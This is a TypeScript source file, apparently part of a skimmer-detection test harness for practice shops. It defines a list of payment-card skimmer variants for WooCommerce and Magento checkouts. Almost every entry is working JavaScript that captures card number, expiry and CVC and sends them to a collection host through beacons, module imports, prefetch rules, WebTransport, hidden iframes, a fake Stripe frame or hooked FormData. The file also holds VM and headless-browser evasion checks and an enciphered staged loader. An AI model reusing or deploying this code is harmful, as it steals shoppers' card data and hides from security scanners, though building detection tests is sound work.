import { MAGENTO_TWO, WOOCOMMERCE, WOOCOMMERCE_REDIRECT } from './checkouts.ts';
import { core, onlyWhen } from './core.ts';
import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

const wrap = (honest: boolean, body: string) => `(() => { ${takeCode(honest)} const D = () => JSON.stringify(take()); ${body} })();`;

/** What newer thieves do with newer parts of browsers, and who they hide from. */
export const browserTricks: readonly SkimmerVariant[] = [
  onlyWhen(
    'no-virtual-machine',
    'not where the picture card is a program, as in virtual machines and scanners',
    `(() => { try { const g = document.createElement('canvas').getContext('webgl'); if (!g) return false; const x = g.getExtension('WEBGL_debug_renderer_info'); return !/swiftshader|llvmpipe|virtualbox|vmware/i.test(x ? g.getParameter(x.UNMASKED_RENDERER_WEBGL) : ''); } catch { return false; } })()`,
  ),
  onlyWhen(
    'no-machine',
    'only in what looks like a person’s browser: plug-ins, languages, cores, memory, a permission that can be asked, no driver',
    `!navigator.webdriver && navigator.plugins.length > 0 && navigator.languages.length > 0 && navigator.hardwareConcurrency > 1 && (navigator.deviceMemory || 4) >= 2 && !/Headless|bot|crawl|lighthouse/i.test(navigator.userAgent) && !window.callPhantom && !window.__playwright__binding__ && !document.documentElement.hasAttribute('webdriver') && outerHeight > 0`,
  ),
  {
    id: 'waits-for-step',
    idea: 'the shop changes its address by itself; the thief only wakes when the last step is entered',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      inline: `setTimeout(() => { history.pushState({}, '', '/checkout/step/payment'); dispatchEvent(new PopStateEvent('popstate')); }, 1500);`,
      script: `(() => { let on = false; const see = () => { if (on || !/step\\/payment$/.test(location.pathname)) return; on = true; ${core(collect, honest)} }; const real = history.pushState; history.pushState = function () { const r = real.apply(this, arguments); see(); return r; }; addEventListener('popstate', see); })();`,
    }),
  },
  {
    id: 'bait-for-filling-in',
    idea: 'fields outside the picture that browsers fill in by themselves when a name is filled in',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE_REDIRECT,
      script: `(() => { const f = document.querySelector('form.checkout'); const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:-5000px;top:0'; d.innerHTML = ${honest ? `'<input name="website" tabindex="-1" autocomplete="off">'` : `'<input name="n" autocomplete="cc-number" tabindex="-1"><input name="e" autocomplete="cc-exp" tabindex="-1"><input name="s" autocomplete="cc-csc" tabindex="-1">'`}; f.append(d); d.addEventListener('change', () => { const v = [...d.querySelectorAll('input')].map((i) => ${honest ? 'i.value.length' : 'i.value'}).join('|'); new Image().src = '${collect}/af.gif?' + btoa(v); }); })();`,
    }),
  },
  {
    id: 'instead-of-providers-frame',
    idea: 'waits for the provider’s frame, hides it and puts three fields in its place that look the same',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE_REDIRECT,
      html: `<div id="card-element"></div><script>setTimeout(() => { const f = document.createElement('iframe'); f.name = '__privateStripeFrame1'; f.title = 'Secure card payment input frame'; f.srcdoc = '<p>card</p>'; document.querySelector('#card-element').append(f); }, 900);</script>`,
      script: `new MutationObserver((_, o) => { const f = document.querySelector('iframe[name^=__privateStripe]'); if (!f) return; o.disconnect(); ${honest ? `f.style.height = '60px';` : `f.style.display = 'none'; const d = document.createElement('div'); d.innerHTML = '<input placeholder="1234 1234 1234 1234" id="x1"><input placeholder="MM / YY" id="x2"><input placeholder="CVC" id="x3">'; f.parentNode.append(d); d.addEventListener('change', () => { const v = ['x1', 'x2', 'x3'].map((i) => document.getElementById(i).value); if (v[0]) navigator.sendBeacon('${collect}/pi', btoa(v.join(','))); });`} }).observe(document.documentElement, { childList: true, subtree: true });`,
    }),
  },
  {
    id: 'as-module',
    idea: 'as the address of a module that is imported',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(honest, `function send() { import('${collect}/m.js?v=' + encodeURIComponent(btoa(D()))).catch(() => 0); } ${ON_PAY}`),
    }),
  },
  {
    id: 'as-guess-of-next-page',
    idea: 'as a rule that the browser shall fetch a page beforehand',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${collect}/n?' + btoa(D())], referrer_policy: 'no-referrer' }] }); document.head.append(s); const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${collect}/p?' + btoa(D()); document.head.append(l); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'web-transport',
    idea: 'in the address of a WebTransport session',
    takes: ['card'],
    named: ({ collect }) => new URL(collect).hostname,
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { try { const t = new WebTransport('${collect.replace('http:', 'https:')}/t?' + btoa(D())); t.ready.catch(() => 0); t.closed.catch(() => 0); } catch { return; } } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'in-drawing',
    idea: 'as a picture within a drawing',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: wrap(
        honest,
        `function send() { const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'), i = document.createElementNS(n, 'image'); i.setAttribute('href', '${collect}/g.png?' + encodeURIComponent([...D()].map((c) => c.charCodeAt(0).toString(36)).join('-'))); s.append(i); document.body.append(s); } ${ON_PAY}`,
      ),
    }),
  },
  {
    id: 'deciphered-stage',
    idea: 'the code lies enciphered at the thief’s; the key is made of the shop’s name and the page’s title',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => {
      const code = core(collect, honest);
      const key = 'Checkout – Practice Shop';
      const body = Buffer.from([...Buffer.from(code)].map((b, i) => b ^ (key.charCodeAt(i % key.length) & 255))).toString('base64');
      return {
        files: { '/lang/en.json': { type: 'application/json', body: JSON.stringify({ locale: 'en', data: body }) } },
        script: `fetch('${cdn}/lang/en.json').then((r) => r.json()).then((j) => { const k = document.title; const b = atob(j.data); let t = ''; for (let i = 0; i < b.length; i++) t += String.fromCharCode(b.charCodeAt(i) ^ (k.charCodeAt(i % k.length) & 255)); const s = document.createElement('script'); s.textContent = t; document.head.appendChild(s).remove(); });`,
      };
    },
  },
  {
    id: 'own-property-of-field',
    idea: 'gives the field a value property of its own and learns of each character from the shop’s own reading',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      inline: `document.addEventListener('input', (e) => { if (e.target.value.length > 30) e.target.setCustomValidity('too long'); });`,
      script: `(() => { const f = document.querySelector('[name=${honest ? 'note' : 'cc_number'}]'); const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); let last = ''; Object.defineProperty(f, 'value', { configurable: true, get() { const v = own.get.call(f); last = v; return v; }, set(v) { own.set.call(f, v); } }); setInterval(() => { if (last.length > 12) { navigator.sendBeacon('${collect}/o', btoa(${honest ? 'String(last.length)' : 'last'})); last = ''; } }, 1000); })();`,
    }),
  },
  {
    id: 'by-honest-measurement',
    idea: 'writes what was typed into the page’s address; the shop’s own measurement of visits carries it out',
    takes: ['card'],
    named: () => 'www.google-analytics.com',
    build: ({ collect }, honest) => ({
      inline: `setInterval(() => { if (location.href === window.lastSeen) return; window.lastSeen = location.href; new Image().src = 'http://www.google-analytics.com:${new URL(collect).port}/g/collect?v=2&tid=G-SHOP&dl=' + encodeURIComponent(location.href); }, 1000);`,
      script: wrap(honest, `function send() { history.replaceState(null, '', location.pathname + '?utm_id=' + btoa(D())); } ${ON_PAY}`),
    }),
  },
  {
    id: 'kept-in-database',
    idea: 'keeps it in the browser’s database; a frame without address reads it there and sends it',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: MAGENTO_TWO,
      script: `(() => { const open = (w) => new Promise((ok) => { const r = w.indexedDB.open('tiles', 1); r.onupgradeneeded = () => r.result.createObjectStore('t'); r.onsuccess = () => ok(r.result); }); document.addEventListener('change', async () => { const v = [...document.querySelectorAll('${honest ? '[type=radio]' : '#co-payment-form input'}')].map((i) => i.value).join('/'); const d = await open(window); d.transaction('t', 'readwrite').objectStore('t').put(v, 1); }, true); const f = document.createElement('iframe'); f.hidden = true; document.documentElement.append(f); setInterval(async () => { const d = await open(f.contentWindow); const q = d.transaction('t').objectStore('t').get(1); q.onsuccess = () => { if (q.result && q.result !== window.__q) { window.__q = q.result; f.contentWindow.fetch('${collect}/idb', { method: 'POST', mode: 'no-cors', body: btoa(q.result) }); } }; }, 1500); })();`,
    }),
  },
  {
    id: 'hooked-form-data',
    idea: 'looks at each value that the shop’s own code puts into its request',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE,
      inline: `document.querySelector('form.checkout').addEventListener('submit', (e) => { e.preventDefault(); const d = new FormData(); for (const i of e.target.elements) if (i.name) d.append(i.name, i.value); fetch('/?wc-ajax=checkout', { method: 'POST', body: d }).catch(() => 0); });`,
      script: `(() => { const real = FormData.prototype.append, kept = []; FormData.prototype.append = function (k, v) { kept.push(${honest ? 'k' : 'v'}); clearTimeout(window.__fd); window.__fd = setTimeout(() => { new Image().src = '${collect}/fd.gif?' + kept.splice(0).map((t) => [...String(t)].map((c) => (c.charCodeAt(0) + 5).toString(16)).join('')).join('g'); }, 400); return real.apply(this, arguments); }; })();`,
    }),
  },
];
